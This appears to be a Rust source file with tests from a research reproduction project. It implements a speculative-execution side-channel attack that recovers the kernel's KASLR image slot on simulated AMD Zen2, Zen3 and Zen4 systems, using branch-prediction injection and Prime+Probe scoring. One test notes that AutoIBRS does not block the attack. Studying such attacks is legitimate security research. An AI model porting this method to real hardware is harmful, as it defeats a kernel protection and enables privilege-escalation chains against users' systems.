//! §7.1 — breaking kernel image KASLR with P1 (**Table 3**).
//!
//! KASLR places the kernel image in one of 488 slots. For each candidate
//! slot the attacker injects a `jmp*` prediction at the candidate's
//! Listing 1 nop address (the instruction `getpid()` executes), pointed
//! at a candidate-relative target that maps to a chosen I-cache set.
//! Only when the candidate is *correct* does the kernel actually execute
//! an instruction in that alias class, fire the prediction, and
//! transiently fetch the target — visible via Prime+Probe. The §7.3
//! bounded relative score over several sets overcomes probe noise.

use phantom_kernel::image::LISTING1_OFFSET;
use phantom_kernel::layout::{KaslrLayout, KERNEL_IMAGE_SLOTS};
use phantom_kernel::System;
use phantom_mem::VirtAddr;
use phantom_sidechannel::{bounded_score, NoiseModel};

use crate::attacks::{scan_slots, AttackError, SlotScanResult};
use crate::primitives::{p1_probe_in_set, PrimitiveConfig};

/// Configuration for the kernel-image KASLR break.
#[derive(Debug, Clone)]
pub struct KaslrImageConfig {
    /// Candidate slots to scan (default: all 488; tests narrow this to
    /// keep runtimes sane).
    pub slots: std::ops::Range<u64>,
    /// Number of I-cache sets scored per candidate (§7.3 uses all 64;
    /// a handful suffices at simulator noise levels).
    pub sets_per_candidate: usize,
    /// Measurement repetitions per set (averaging out spurious
    /// evictions).
    pub reps: usize,
    /// Noise seed.
    pub seed: u64,
}

impl Default for KaslrImageConfig {
    fn default() -> KaslrImageConfig {
        KaslrImageConfig {
            slots: 0..KERNEL_IMAGE_SLOTS,
            sets_per_candidate: 3,
            reps: 4,
            seed: 0,
        }
    }
}

/// Run the attack on a booted system.
///
/// # Errors
///
/// Returns [`AttackError`] on primitive failure.
pub fn break_kaslr_image(
    sys: &mut System,
    config: &KaslrImageConfig,
) -> Result<SlotScanResult, AttackError> {
    let attacker = VirtAddr::new(0x5000_0000);
    let cfg = PrimitiveConfig::for_system(sys, attacker);
    let mut noise = NoiseModel::realistic(config.seed);
    let sets = config.sets_per_candidate;
    let actual_slot = sys.layout().image_slot;
    scan_slots(sys, config.slots.clone(), sets, actual_slot, |sys, slot| {
        let candidate_base = KaslrLayout::candidate_image_base(slot);
        let victim = candidate_base + LISTING1_OFFSET;

        let mut signal = Vec::with_capacity(sets);
        let mut baseline = Vec::with_capacity(sets);
        for i in 0..sets {
            // Monitored set S and a candidate-relative target inside
            // the (hypothetical) image that maps to S. The +0x2000
            // region is executable padding in every image.
            let set = (11 + i * 17) % 64;
            let t_s = candidate_base + 0x2000 + (set as u64) * 64;
            // Baseline: the injected target selects a different set, so
            // set S should stay quiet even for the correct candidate.
            let b_s = candidate_base + 0x2000 + (((set + 32) % 64) as u64) * 64;
            let (mut t_ev, mut b_ev) = (0u64, 0u64);
            for _ in 0..config.reps.max(1) {
                t_ev += p1_probe_in_set(sys, &cfg, victim, t_s, set, &mut noise)?.evictions as u64;
                b_ev += p1_probe_in_set(sys, &cfg, victim, b_s, set, &mut noise)?.evictions as u64;
            }
            signal.push(t_ev);
            baseline.push(b_ev);
        }
        Ok(bounded_score(&signal, &baseline))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use phantom_pipeline::UarchProfile;

    /// Scan a window of slots guaranteed to contain the truth.
    fn window_around(actual: u64, width: u64) -> std::ops::Range<u64> {
        let lo = actual.saturating_sub(width / 2);
        lo..(lo + width).min(KERNEL_IMAGE_SLOTS)
    }

    #[test]
    fn finds_the_kernel_image_on_zen3() {
        let mut sys = System::new(UarchProfile::zen3(), 1 << 30, 21).unwrap();
        let actual = sys.layout().image_slot;
        let config = KaslrImageConfig {
            slots: window_around(actual, 24),
            // missed_signal noise drops real evictions; a couple of
            // extra repetitions restore the §7.3 score separation.
            reps: 6,
            ..Default::default()
        };
        let r = break_kaslr_image(&mut sys, &config).unwrap();
        assert!(
            r.correct,
            "guessed {} actual {}",
            r.guessed_slot, r.actual_slot
        );
        assert!(r.best_score > 0);
        assert!(r.confidence > 0.0, "a true hit is decisive: {r:?}");
        assert!(r.seconds > 0.0);
    }

    #[test]
    fn finds_the_kernel_image_on_zen4_despite_auto_ibrs() {
        // O5: AutoIBRS does not stop transient fetch.
        let mut sys = System::new(UarchProfile::zen4(), 1 << 30, 22).unwrap();
        let actual = sys.layout().image_slot;
        let config = KaslrImageConfig {
            slots: window_around(actual, 16),
            ..Default::default()
        };
        let r = break_kaslr_image(&mut sys, &config).unwrap();
        assert!(r.correct);
    }

    #[test]
    fn finds_the_kernel_image_on_zen2() {
        let mut sys = System::new(UarchProfile::zen2(), 1 << 30, 23).unwrap();
        let actual = sys.layout().image_slot;
        let config = KaslrImageConfig {
            slots: window_around(actual, 16),
            ..Default::default()
        };
        let r = break_kaslr_image(&mut sys, &config).unwrap();
        assert!(r.correct);
    }

    #[test]
    fn wrong_window_yields_a_weak_score() {
        // Scanning a window that EXCLUDES the real slot: whatever wins
        // does so with a much weaker score than a true hit.
        let mut sys = System::new(UarchProfile::zen3(), 1 << 30, 24).unwrap();
        let actual = sys.layout().image_slot;
        let excluded = if actual > 40 { 0..16 } else { 100..116 };
        let config = KaslrImageConfig {
            slots: excluded,
            ..Default::default()
        };
        let r = break_kaslr_image(&mut sys, &config).unwrap();
        assert!(!r.correct);

        let mut sys2 = System::new(UarchProfile::zen3(), 1 << 30, 24).unwrap();
        let actual2 = sys2.layout().image_slot;
        let config2 = KaslrImageConfig {
            slots: window_around(actual2, 8),
            ..Default::default()
        };
        let hit = break_kaslr_image(&mut sys2, &config2).unwrap();
        assert!(
            hit.best_score > r.best_score,
            "{} vs {}",
            hit.best_score,
            r.best_score
        );
        assert!(
            hit.confidence >= r.confidence,
            "a true hit is at least as decisive: {} vs {}",
            hit.confidence,
            r.confidence
        );
    }
}
